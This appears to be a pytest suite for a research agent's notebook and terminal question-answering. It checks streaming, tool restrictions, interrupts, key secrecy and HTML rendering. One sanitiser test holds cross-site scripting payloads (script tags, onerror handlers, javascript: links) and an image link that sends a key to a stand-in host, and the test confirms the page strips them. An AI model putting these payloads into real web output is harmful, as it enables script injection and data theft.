"""The research agent in the notebook and the terminal: the real binary, a real client, a scripted model on the loopback."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import nbformat
import pytest

from browsers import CHROMIUM, jupyterlab, notebook
from kernels import Kernel, Message, book, kernel
from labs import Lab
from models import CANARY, Answer, Call, Cut, Model, Paused, Refusal, change, model

AGENT = "anthropic:claude-opus-5"
LOOKS = {"experiments", "experiment", "diff", "log", "sql"}
OWN = {"propose_cell", "queue_hypothesis"}


@pytest.fixture
def tried(lab: Lab) -> Lab:
    """A lab in which `search` has tried something."""
    lab.night("--experiments", "4", "--seed", "1")
    return lab


@contextmanager
def asking(lab: Lab, answers: list[Answer] | Callable[[str], Answer]) -> Iterator[tuple[Kernel, Model]]:
    """A kernel whose agent is the scripted model."""
    with model(answers) as it:
        lab.place.env |= it.env() | {"OVERNIGHT_AGENT": AGENT}
        with kernel(lab) as k:
            yield k, it


def last_html(messages: list[Message]) -> str:
    """What a person sees in the end."""
    return messages[-1]["data"]["text/html"]


def test_an_answer_streams_and_what_was_looked_up_is_folded(tried: Lab) -> None:
    go = threading.Event()
    query = "SELECT number, value FROM experiments\nORDER BY value"
    script = [Call("sql", {"query": query}), Call("experiment", {"number": 1}),
              Paused("Experiment **1** was", " tried.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", go)]
    with asking(tried, script) as (k, it):
        def hear(message: Message) -> None:
            if "<strong>1</strong> was</p>" in message["content"].get("data", {}).get("text/html", ""):
                go.set()  # Half of the answer is there to be read before the other half is.
        cell = k.collect(k.send("%%ask\nWhat was tried?"), hear=hear)
    assert cell.status == "ok", cell.text
    shown = cell.of("display_data") + cell.of("update_display_data")
    assert len({each["transient"]["display_id"] for each in shown}) == 1 and len(cell.of("update_display_data")) > 2
    html = last_html(shown)
    assert "<strong>1</strong> was tried." in html and "<td>1</td>" in html
    assert html.count("<details") == 2 and "ORDER BY value" in html and "val_bpb" in html
    assert html.index("<details") < html.index("was tried"), "what was looked up stands before what was made of it"
    assert f"{AGENT}, 3,000 tokens read, 600 written, $0.0300" in html
    plain = shown[-1]["data"]["text/plain"]
    assert plain == shown[-1]["data"]["text/markdown"] and plain.startswith("> sql SELECT number, value FROM")
    told = it.told(0)
    assert "Explore the learning rate first." in told and told.rstrip().endswith("What was tried?")
    assert "1.12" in it.told(1) and "hypothesis" not in it.told(1).rsplit("What was tried?", 1)[1], "the table that was asked for"


def test_a_question_may_stand_on_one_line_with_its_apostrophe_and_its_mark(tried: Lab) -> None:
    with asking(tried, ["It's this."]) as (k, it):
        cell = k.execute("%ask what's the best of $5?")
        assert cell.status == "ok" and "It&#39;s this." in cell.text or "It's this." in cell.text
        assert it.told(0).rstrip().endswith("what's the best of $5?")
        (page,) = k.execute("%ask?").reply["content"]["payload"]
        assert "--local" in page["data"]["text/plain"]
        listed = k.execute("%lsmagic").text
        assert "%ask " in listed and "%%ask " in listed
        assert "--local" in k.ask("complete", "%ask --lo", 9)["matches"]
        assert k.execute("%ask").status == "error" and "Usage" in k.execute("%%ask --help").text


def test_a_cell_is_proposed_and_a_hypothesis_queued(tried: Lab) -> None:
    code = "%%sql\nSELECT * FROM experiments"
    script = [Call("propose_cell", {"code": "%best", "why": "a first thought"}),
              Call("propose_cell", {"code": code, "why": "to see <all> of them"}),
              Call("queue_hypothesis", {"text": "a wider model is better"}), "Done."]
    with asking(tried, script) as (k, it):
        cell = k.execute("%%ask\nQueue that a wider model is better, and show me all")
    assert cell.reply["content"]["payload"] == [{"source": "set_next_input", "text": code, "replace": False}]
    assert "to see &lt;all&gt; of them" in cell.data[-1]["text/html"]
    assert "recorded" in it.told(3)
    assert "a wider model is better" in tried.overnight("brief").out
    events = tried.overnight("sql", "SELECT author, text FROM events WHERE text LIKE '%wider model%'").out
    assert "Ada Lovelace" in events


def test_nothing_that_acts_can_be_called(tried: Lab) -> None:
    calls = [Call("loop", {"command": "start"}), Call("run", {}), Call("discard", {"number": 0}), Call("export", {}),
             Call("sql --to csv x.csv", {"query": "SELECT 1"}), Call("log", {"number": "0 --json"})]
    before = tried.experiments(), tried.count("loop_started"), tried.git("for-each-ref")
    with asking(tried, [*calls, "I cannot."]) as (k, it):
        cell = k.execute("%%ask\nStart the loop and discard the baseline")
    assert cell.status == "ok" and cell.reply["content"]["payload"] == []
    assert {tool["name"] for tool in it.asked[0]["tools"]} == LOOKS | OWN
    assert all(f"there is no tool `{call.name}`" in it.told() for call in calls[:-1])
    assert cell.data[-1]["text/html"].count("failed</span>") == len(calls)
    assert (tried.experiments(), tried.count("loop_started"), tried.git("for-each-ref")) == before
    assert tried.status()["state"] == "idle"


def test_what_a_model_writes_can_do_nothing_to_the_page(tried: Lab) -> None:
    evil = ("<script>alert(1)</script> <img src=x onerror=alert(2)>\n\n[here](javascript:alert(3)) "
            "![seen](https://evil.example/?key) \x1b[2J\n\n<details open><summary>x</summary></details>\n")
    calls = [Call("sql", {"query": "SELECT '</pre><script>alert(4)</script>' AS a"}),
             Call("propose_cell", {"code": "</pre><script>alert(5)</script>", "why": "<b>"}),
             Call("<script>", {"query": "<script>"})]
    with asking(tried, [*calls, evil]) as (k, _):
        html = k.execute("%%ask\nx").data[-1]["text/html"]
    for tag in ("<script", "<img", "javascript:", "evil.example", "\x1b", "<details open"):
        assert tag not in html, tag
    assert "&lt;script&gt;alert(4)" in html and "here" in html and "seen" in html


def test_earlier_questions_are_remembered_in_one_session(tried: Lab) -> None:
    with asking(tried, lambda told: "Number 3." if "of them" not in told else "Still 3.") as (k, it):
        k.execute("%ask which is best?")
        cell = k.execute("%ask and which of them is smallest?")
        assert "Still 3." in cell.text
        assert "which is best?" in it.told(1) and "Number 3." in it.told(1)
        tried.overnight("ask", "alone")
        assert "which is best?" not in it.told(2)


def test_an_interrupt_ends_it_and_keeps_what_was_said(tried: Lab) -> None:
    go = threading.Event()
    with asking(tried, [Call("sql", {"query": "SELECT 1 AS one"}), Paused("This much", " and more", go)]) as (k, _):
        def hear(message: Message) -> None:
            html = message["content"].get("data", {}).get("text/html", "")
            if "This much" in html and "ended" not in html:
                k.interrupt()
        cell = k.collect(k.send("%%ask\nx"), hear=hear)
        go.set()
    html = last_html(cell.of("update_display_data"))
    assert cell.status == "error" and "interrupted" in cell.text
    assert "This much" in html and "and more" not in html and "SELECT 1 AS one" in html
    assert "ended before it was done" in html and "1,000 tokens read, 200 written, $0.0100" in html


def test_trouble_that_passes_is_waited_for_and_a_broken_answer_begins_anew(tried: Lab) -> None:
    with asking(tried, [Refusal(429, "slow down", {"retry-after-ms": "20"}), Cut("Half an"), "A whole answer."]) as (k, _):
        cell = k.execute("%ask x")
    assert cell.status == "ok"
    assert "A whole answer." in cell.data[-1]["text/html"] and "Half an" not in cell.data[-1]["text/html"]


def test_a_wrong_key_is_one_clear_error_without_the_key(tried: Lab) -> None:
    with asking(tried, lambda _: Refusal(401, f"invalid x-api-key: {CANARY}")) as (k, it):
        cell = k.execute("%ask x")
        (error,) = cell.of("error")
        assert "401" in error["evalue"] and "ANTHROPIC_API_KEY" in "".join(error["traceback"])
        assert len(it.asked) == 1
        asked = tried.overnight("ask", "x", code=1)
        assert "does not let us in" in asked.err and asked.out == "" or "ended before" in asked.out
    said = cell.text + asked.text
    assert CANARY not in said
    for folder in (tried.root, tried.place.path / "cache", tried.place.path / "home", tried.place.path / "run"):
        for file in folder.rglob("*"):
            if file.is_file() and not file.is_symlink():
                assert CANARY.encode() not in file.read_bytes(), file


def test_without_a_model_it_is_said_how_to_have_one(tried: Lab) -> None:
    for args, said in [((), "no model is set up"), (("--agent", "acp:claude"), "answers no questions"),
                       (("--agent", "gpt-6"), "`gpt-6` is not a model")]:
        done = tried.overnight("ask", *args, "x", code=None)
        assert done.code in (1, 2) and said in done.err
        for part in ("ANTHROPIC_API_KEY", "openai:MODEL@", "OVERNIGHT_AGENT", "ask --local"):
            assert part in done.err, part
    done = tried.overnight("ask", "--agent", "openai:gpt-6-sol", "x", code=1, env={"OPENAI_API_KEY": ""})
    assert "there is no key for openai:gpt-6-sol: set OPENAI_API_KEY" in done.err


def test_the_model_of_the_last_loop_answers(lab: Lab) -> None:
    with model([change("LR = 0.04", "LR = 0.02"), "Yes."]) as it:
        lab.night("--agent", "openai:gpt-6-sol", "--experiments", "2", env=it.env())
        lab.night("--experiments", "3", env=it.env())
        done = lab.overnight("ask", "is", "it", "so", env=it.env())
        lab.overnight("ask", "x", env=it.env() | {"OVERNIGHT_AGENT": AGENT}, code=1)
    assert done.out == "Yes.\n\n— openai:gpt-6-sol, 1,000 tokens read, 200 written, $0.0040\n"
    assert it.asked[-1]["model"] == "claude-opus-5", "what the person says comes before what the loop had"


def test_a_terminal_prints_an_answer_as_it_comes(tried: Lab) -> None:
    go = threading.Event()
    script = [Call("diff", {"number": 1}), Paused("One half", " and the other.", go), Call("propose_cell", {"code": "%best"}), "So."]
    with model(script) as it:
        tried.place.env |= it.env()
        asked = tried.spawn("ask", "--agent", AGENT, "x")
        assert asked.stdout is not None
        first = ""
        while not first.endswith("One half"):
            assert (letter := asked.stdout.read(1)), f"it ended after: {first}"
            first += letter
        go.set()
        rest, err = asked.communicate(timeout=60)
        assert asked.returncode == 0, err
        assert first + rest == ("> diff 1\n\nOne half and the other.\n\n— " + AGENT
                                      + ", 2,000 tokens read, 400 written, $0.0200\n")
        told = tried.json("ask", "--agent", AGENT, "x")
    assert told["answer"] == "So." and told["cell"] == "%best" and told["steps"][0]["tool"] == "propose_cell"
    assert told["cost"] == {"usd": pytest.approx(0.02), "input_tokens": 2000, "output_tokens": 400}


def test_a_model_that_only_looks_is_stopped(tried: Lab) -> None:
    with model(lambda _: Call("experiments", {})) as it:
        done = tried.overnight("ask", "--agent", AGENT, "x", code=1, env=it.env())
    assert "did not answer" in done.err and len(it.asked) == 13
    assert "that was enough" in it.told() and "that was enough" not in it.told(-2)


@pytest.fixture
def eventful(make_lab: Callable[..., Lab]) -> Lab:
    """A lab with a gain, a loss, a crash and a note."""
    lab = make_lab(ahead=False, repairs=0)
    script = [change("LR = 0.04", "LR = 0.02", "a lower rate is steadier"),
              change("LR = 0.02", "LR = 0 / 0", "divide by nothing"),
              change("WIDTH = 48", "WIDTH = 16", "a narrow model is faster")]
    with model(script) as it:
        lab.night("--agent", AGENT, "--experiments", "4", env=it.env())
    lab.overnight("note", "3", "too narrow by far")
    return lab


def test_the_standard_questions_are_answered_by_queries(eventful: Lab) -> None:
    answers = eventful.json("ask", "--local")["answers"]
    said = {each["question"]: each["answer"] for each in answers}
    assert len(said) == 10
    assert said["What helped most?"].startswith("Experiment 1 gained 0.0") and "steadier" in said["What helped most?"]
    assert "Experiment 3 was worse by 0.0" in said["What hurt most?"]
    assert said["What crashed or took too long, and why?"].startswith("Experiment 2 (crash) is the latest of 1:")
    assert "1 of the constants that may change never did, such as WARMUP, which is 0.10" in said["What was never tried?"]
    assert said["Which constant matters most?"].startswith("WIDTH: the means of its 2 settings")
    assert "Experiment 3 missed the best by 0.0" in said["What was close?"]
    assert f"{AGENT} gained most" in said["Who gained what, and for how much?"] and "1 kept of 3" in str(said)
    assert said["Is there still progress?"].startswith("2 experiments since the last keep.")
    assert said["What wants a look?"] == "Experiment 3 (discard) is the latest of 1."
    for each in answers:
        again = eventful.json("sql", each["query"])
        assert again == each["rows"], "a person can go on with the query"


def test_some_of_the_standard_questions_are_shown_in_a_notebook(eventful: Lab) -> None:
    with kernel(eventful) as k:
        cell = k.execute("%ask --local what crashed?")
        assert cell.status == "ok" and "divide by nothing" in cell.text
        html = cell.data[-1]["text/html"]
        assert html.count("<details") == 1 and "WHERE status IN (&#39;crash&#39;" in html or "WHERE status IN ('crash'" in html
        both = k.execute("%%ask --local\nwhat helped, and what was never tried?").text
        assert "What helped most?" in both and "What was never tried?" in both and "What hurt most?" not in both
        assert "WARMUP" in k.execute("%%sql\nSELECT name FROM constants GROUP BY name").text
        unknown = k.execute("%ask --local the weather")
        assert unknown.status == "error" and "What was close?" in unknown.text


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium (Debian: apt install chromium)")
def test_an_answer_in_jupyterlab(eventful: Lab) -> None:
    """The page shows HTML with its folds closed, and puts the cell that is proposed below."""
    asked = book("%%ask\nWhich change helped, and why?", "%ask --local what crashed, and what helped?")
    nbformat.write(asked, eventful.root / "asked.ipynb")
    query = "SELECT number, status, value, hypothesis\nFROM experiments\nORDER BY value"
    script = [Call("sql", {"query": query}), Call("experiment", {"number": 1}),
              Call("propose_cell", {"code": "%diff 1", "why": "what experiment 1 changed"}),
              "**Experiment 1** helped: `LR = 0.02` gained 0.02.\n\n| experiment | value |\n|--:|--:|\n| 0 | 1.126 |\n"
              "| 1 | 1.099 |\n\n- A lower rate is *steadier*.\n- The width was not changed with it."]
    with model(script) as it:
        eventful.place.env |= it.env() | {"OVERNIGHT_AGENT": AGENT}
        with jupyterlab(eventful) as address, notebook(address, "asked.ipynb") as page:
            page.ready()
            page.run(1)
            page.output(1).locator("details").nth(1).wait_for()
            page.run(0)
            page.output(0).get_by_text("$0.0400").wait_for()
            answer = page.output(0)
            assert answer.count() == 1 and answer.locator("td", has_text="1.099").count() == 1
            folds = answer.locator("details")
            assert folds.count() == 3 and not folds.first.locator("pre").first.is_visible()
            page.shot("ask-folded")
            folds.first.locator("summary").click()
            assert folds.first.locator("pre").first.is_visible() and "ORDER BY" in folds.first.inner_text()
            assert "%diff 1" in page.cell(1).locator(".cm-content").inner_text()
            page.shot("ask")
            assert page.errors().all_inner_texts() == []


def test_an_empty_ledger_is_said_plainly(lab: Lab) -> None:
    assert "no experiments yet" in lab.overnight("ask", "--local").out
    assert lab.overnight("sql", "SELECT count(*) AS n FROM constants").code == 0
    with model(["Nothing was tried."]) as it:
        done = lab.overnight("ask", "--agent", AGENT, "x", env=it.env())
    assert "Nothing was tried." in done.out
    assert "Nothing has been measured yet." in it.told(0)
